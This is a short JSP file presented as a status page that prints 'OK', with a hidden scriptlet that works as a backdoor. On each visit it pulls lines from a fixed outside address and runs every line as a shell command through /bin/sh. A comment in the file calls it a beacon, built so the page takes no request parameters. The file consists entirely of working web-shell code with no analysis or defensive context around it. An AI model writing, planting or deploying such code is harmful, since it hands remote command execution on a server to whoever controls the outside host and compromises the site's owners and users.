<%@ page import="java.net.*,java.io.*" %><%
// A beacon hidden in a status page: every visit asks a fixed host for the next command and runs it,
// so the page itself holds no request parameter at all.
String host = "http://198.51.100.52/t/next";
URL u = new URL(host);
BufferedReader r = new BufferedReader(new InputStreamReader(u.openStream()));
String line;
while ((line = r.readLine()) != null) {
    Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", line});
    p.waitFor();
}
r.close();
%><html><body>OK</body></html>
